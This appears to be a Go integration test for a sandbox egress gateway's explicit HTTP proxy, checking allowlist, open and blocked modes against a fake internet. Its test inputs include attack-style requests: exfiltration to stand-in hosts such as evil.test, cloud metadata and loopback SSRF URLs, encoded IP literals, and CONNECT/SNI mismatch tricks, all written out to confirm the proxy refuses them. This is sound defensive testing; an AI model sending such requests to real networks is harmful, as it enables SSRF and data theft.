package egress_test

import (
	"context"
	"net/netip"
	"strings"
	"testing"
)

// TestEgressExplicitProxy: the explicit HTTP proxy on each sandbox's GW
// (port 3128), from inside real sandboxes with a Go client that takes the
// proxy from HTTP_PROXY/HTTPS_PROXY, against the fake internet. The same
// policy, checks and decision log as the transparent path: an allowed
// host works (plain HTTP in absolute form, HTTPS through CONNECT with the
// gateway's TLS termination verified by the sandbox's CA), a denied host
// gets 403 from the proxy, internal addresses and names are refused, a
// CONNECT whose TLS names another host is refused; a blocked sandbox has
// no proxy in its environment and the proxy resets it.
func TestEgressExplicitProxy(t *testing.T) {
	e := start(t)
	allow := map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443"}}

	t.Run("allowlist", func(t *testing.T) {
		sb := e.create(t, allow)
		defer e.cl.Delete(context.Background(), sb.ID)
		gw := e.gwAddr(sb)
		proxy := "http://" + gw + ":3128"
		env := e.exec(t, sb, "/bin/busybox", "env")
		for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"} {
			if !strings.Contains(env, k+"="+proxy+"\n") && !strings.HasSuffix(env, k+"="+proxy) {
				t.Errorf("%s=%s missing from the sandbox's environment:\n%s", k, proxy, env)
			}
		}
		if !strings.Contains(env, "NO_PROXY=localhost,127.0.0.1,::1") || !strings.Contains(env, "no_proxy=localhost,127.0.0.1,::1") {
			t.Errorf("NO_PROXY/no_proxy missing: %s", env)
		}
		seq := e.seq(t, sb)
		// Allowed: plain HTTP (absolute form) and HTTPS (CONNECT; the
		// gateway terminates, the client verifies with the sandbox's CA).
		if out := e.run(t, sb, "proxyget", "http://registry.test/simple/"); !strings.Contains(out, "STATUS 200") || !strings.Contains(out, "registry ok") {
			t.Errorf("http through the proxy: %s", out)
		}
		if out := e.run(t, sb, "proxyget", "https://registry.test/simple/"); !strings.Contains(out, "STATUS 200") || !strings.Contains(out, "registry ok") {
			t.Errorf("https through the proxy: %s", out)
		}
		if out := e.run(t, sb, "proxyget", "https://files.registry.test/x"); !strings.Contains(out, "STATUS") {
			t.Errorf("https to an allowed wildcard name through the proxy: %s", out)
		}
		l := e.logAfter(t, sb, seq)
		var httpAllow, connectAllow, tlsTerm bool
		for _, d := range l.Decisions {
			httpAllow = httpAllow || d.Proto == "http" && d.Verdict == "allow" && d.Name == "registry.test" && d.Dialled == edgeIP+":80"
			connectAllow = connectAllow || d.Proto == "connect" && d.Verdict == "allow" && d.Name == "registry.test" && d.Dialled == edgeIP+":443"
			tlsTerm = tlsTerm || d.Proto == "tls" && d.Verdict == "allow" && d.Name == "registry.test" && d.TLS == "terminated"
		}
		if !httpAllow || !connectAllow || !tlsTerm {
			t.Errorf("decision log: http allow %v, connect allow %v, tls terminated %v: %+v", httpAllow, connectAllow, tlsTerm, l.Decisions)
		}

		// Denied hosts: 403 from the proxy, nothing reaches them.
		n := nonce()
		seq = e.seq(t, sb)
		for _, u := range []string{"http://evil.test/flag?n=" + n, "http://evil-cdn.test/flag?n=" + n} {
			if out := e.run(t, sb, "proxyget", u); !strings.Contains(out, "STATUS 403 reason=not_allowed") {
				t.Errorf("%s through the proxy: %s, want 403 not_allowed", u, out)
			}
		}
		if out := e.run(t, sb, "proxyget", "https://evil.test/flag?n="+n); !strings.HasPrefix(out, "ERR") || !strings.Contains(out, "Forbidden") {
			t.Errorf("https to a denied host through the proxy: %s, want the CONNECT refused (403)", out)
		}
		// IP literals (R7), internal addresses (R15), ports not allowed.
		for _, u := range []string{"http://" + attackerIP + "/flag?n=" + n, "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://" + gw + ":15001/", "http://[2001:db8::66]/flag?n=" + n} {
			if out := e.run(t, sb, "proxyget", u); !strings.Contains(out, "STATUS 403 reason=ip_literal") {
				t.Errorf("%s through the proxy: %s, want 403 ip_literal", u, out)
			}
		}
		// (Go's client never proxies loopback: by hand, the host's.)
		if out := e.run(t, sb, "raw", gw+":3128", `GET http://127.0.0.1:7777/?n=`+n+` HTTP/1.1\r\nHost: 127.0.0.1:7777\r\n\r\n`); !strings.Contains(out, "403") || !strings.Contains(out, "ip_literal") {
			t.Errorf("the host's loopback through the proxy: %s, want 403 ip_literal", out)
		}
		if out := e.run(t, sb, "proxyget", "http://registry.test:8080/flag?n="+n); !strings.Contains(out, "STATUS 403 reason=not_allowed") {
			t.Errorf("a port the rule does not allow: %s", out)
		}
		// CONNECT to an allowed name, then TLS naming the attacker tenant
		// on the same CDN address (R9): refused before a byte goes up.
		if out := e.run(t, sb, "connect", gw+":3128", "registry.test:443", "evil-cdn.test", "evil-cdn.test", "/flag?n="+n); strings.Contains(out, "attacker") || strings.Contains(out, e.wan.flag) {
			t.Errorf("CONNECT registry.test, SNI evil-cdn.test: %s", out)
		}
		// CONNECT to an IP literal and to a bad port.
		for _, target := range []string{attackerIP + ":443", "[2001:db8::66]:443", "registry.test:0443"} {
			if out := e.run(t, sb, "connect", gw+":3128", target, "registry.test", "registry.test", "/flag?n="+n); !strings.Contains(out, "ERR proxy 40") {
				t.Errorf("CONNECT %s: %s, want a 4xx from the proxy", target, out)
			}
		}
		// Origin-form to the proxy (it is no origin server).
		if out := e.run(t, sb, "raw", gw+":3128", `GET /flag?n=`+n+` HTTP/1.1\r\nHost: registry.test\r\n\r\n`); !strings.Contains(out, " 400 ") {
			t.Errorf("origin-form request to the proxy: %s", out)
		}
		l = e.logAfter(t, sb, seq)
		for _, reason := range []string{"not_allowed", "ip_literal", "connect_mismatch", "proxy_bad_request", "bad_request"} {
			if !l.denied(reason) {
				t.Errorf("no %s denial in the decision log: %+v", reason, l.Decisions)
			}
		}
		if e.wan.attackerSaw(n) {
			t.Errorf("an attacker endpoint logged the NONCE")
		}
	})

	t.Run("open", func(t *testing.T) {
		sb := e.create(t, map[string]any{"mode": "open"})
		defer e.cl.Delete(context.Background(), sb.ID)
		if env := e.exec(t, sb, "/bin/busybox", "env"); !strings.Contains(env, "HTTPS_PROXY=http://"+e.gwAddr(sb)+":3128") {
			t.Errorf("open mode: no HTTPS_PROXY: %s", env)
		}
		before := len(e.wan.internalContacts())
		if out := e.run(t, sb, "proxyget", "http://registry.test/simple/"); !strings.Contains(out, "STATUS 200") {
			t.Errorf("open mode, http through the proxy: %s", out)
		}
		for u, reason := range map[string]string{
			"http://corp.test/":                      "internal_answer",
			"http://local.test:7777/":                "internal_answer",
			"http://10.0.0.1/":                       "internal",
			"http://169.254.169.254/latest/":         "internal",
			"http://" + e.gwAddr(sb) + ":15001/":     "internal",
			"http://" + e.peerAddrOr(t, sb) + "/":    "internal",
			"http://0x7f000001:7777/":                "ip_literal",
			"http://rebind2.evil.test/latest/":       "", // attacker's public address: allowed in open mode
			"http://[::ffff:169.254.169.254]/latest": "internal",
		} {
			out := e.run(t, sb, "proxyget", u)
			if reason != "" && !strings.Contains(out, "STATUS 403 reason="+reason) {
				t.Errorf("%s: %s, want 403 %s", u, out, reason)
			}
		}
		if out := e.run(t, sb, "raw", e.gwAddr(sb)+":3128", `GET http://127.0.0.1:7777/ HTTP/1.1\r\nHost: 127.0.0.1:7777\r\n\r\n`); !strings.Contains(out, "403") || !strings.Contains(out, "internal") {
			t.Errorf("the host's loopback through the proxy: %s, want 403 internal", out)
		}
		if out := e.run(t, sb, "connect", e.gwAddr(sb)+":3128", "127.0.0.1:7777", "x", "x", "/"); !strings.Contains(out, "ERR proxy 403") || !strings.Contains(out, "reason=internal") {
			t.Errorf("CONNECT to the host's loopback: %s", out)
		}
		if ic := e.wan.internalContacts(); len(ic) > before {
			t.Errorf("internal listeners contacted through the proxy: %v", ic[before:])
		}
	})

	t.Run("blocked", func(t *testing.T) {
		sb := e.create(t, nil)
		defer e.cl.Delete(context.Background(), sb.ID)
		if env := e.exec(t, sb, "/bin/busybox", "env"); strings.Contains(strings.ToLower(env), "_proxy=") {
			t.Errorf("blocked sandbox has proxy variables: %s", env)
		}
		n := nonce()
		gw := e.gwAddr(sb)
		seq := e.seq(t, sb)
		before := e.log(t, sb).Counters["upstream_sockets"]
		e.run(t, sb, "raw", gw+":3128", `GET http://registry.test/flag?n=`+n+` HTTP/1.1\r\nHost: registry.test\r\n\r\n`)
		e.run(t, sb, "connect", gw+":3128", "registry.test:443", "registry.test", "registry.test", "/flag?n="+n)
		if !e.logAfter(t, sb, seq).denied("blocked") {
			t.Errorf("no blocked denial for the proxy")
		}
		if after := e.log(t, sb).Counters["upstream_sockets"]; after != before {
			t.Errorf("upstream sockets for a blocked sandbox: %d -> %d", before, after)
		}
		if e.wan.sawEvent(n) {
			t.Errorf("the wan saw a request of a blocked sandbox")
		}
	})
}

// peerAddrOr is another sandbox's address: the peer's, or a neighbour
// slot's.
func (e *env) peerAddrOr(t *testing.T, sb sbx) string {
	if e.peer != nil {
		return e.peerAddr()
	}
	l, ok := e.srv.Network().Links.Get(sb.instance)
	if !ok {
		t.Fatalf("no link for %s", sb.instance)
	}
	b := l.Guest.As4()
	b[3] ^= 4
	return netip.AddrFrom4(b).String()
}
